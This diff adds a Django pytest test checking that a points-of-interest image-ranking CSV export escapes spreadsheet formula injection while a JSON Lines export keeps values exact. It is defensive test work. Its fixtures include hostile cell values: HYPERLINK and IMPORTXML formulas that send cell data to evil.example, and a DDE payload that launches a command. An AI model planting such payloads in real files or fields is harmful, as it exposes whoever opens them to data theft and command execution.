@@ -10,8 +10,10 @@ import io
 import json
 
 import pytest
+from django.contrib.auth import get_user_model
 from django.urls import reverse
 
+from cities.models import PointOfInterest
 from image_ranking.models import Candidate, ImageTrainingData, PoiRanking
 from image_ranking.review import labels
 from tests.dashboard.factories import make_pois
@@ -141,6 +143,46 @@ def test_csv_has_the_new_columns_and_still_escapes_formulas(staff_client, four):
     assert "'=HYPERLINK(1)" in by_url and "'@SUM(1)" in by_url
     assert by_url[cand.image_url]["candidate_id"] == str(cand.pk)
     assert by_url["'=HYPERLINK(1)"]["candidate_id"] == ""
+
+
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_text_a_spreadsheet_would_run_is_escaped_in_csv_and_exact_in_jsonl(staff_client, db):
+    """POI names, a city name, a Commons file name and a curator's name from elsewhere: in the
+    CSV each cell starting with =, +, -, @, TAB or CR gets a leading quote; the JSON Lines
+    export keeps every value exactly (a training pipeline reads them)."""
+    _, _, pois = make_pois(len(HOSTILE_NAMES), 2, city_name="=Evil City", image_every=0)
+    curator = get_user_model().objects.create(username="@curator")
+    hostile_url = '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")'
+    for poi, name in zip(pois, HOSTILE_NAMES, strict=True):
+        PointOfInterest.objects.filter(pk=poi.pk).update(name=name)
+        candidate = Candidate.objects.filter(poi=poi).first()
+        labels.label_candidate(candidate, "good", user=curator)
+    ImageTrainingData.objects.create(poi=pois[0], image_url=hostile_url, label="bad")
+
+    by_name = {}
+    for row in csv_rows(staff_client):
+        by_name.setdefault(row["poi_name"], []).append(row)
+    assert sorted(by_name) == sorted("'" + name for name in HOSTILE_NAMES)
+    for rows in by_name.values():
+        assert all(row["city"] == "'=Evil City" for row in rows)
+    first = by_name["'" + HOSTILE_NAMES[0]]
+    assert {row["image_url"] for row in first} >= {"'" + hostile_url}
+    assert {row["labelled_by"] for row in first} == {"'@curator", ""}
+
+    exact = jsonl_rows(staff_client)
+    assert sorted({row["poi_name"] for row in exact}) == sorted(HOSTILE_NAMES)
+    assert {row["city"] for row in exact} == {"=Evil City"}
+    assert hostile_url in {row["image_url"] for row in exact}
+    assert "@curator" in {row["labelled_by"] for row in exact}
 
 
 def test_exports_stream_in_batches_with_a_fixed_number_of_queries(
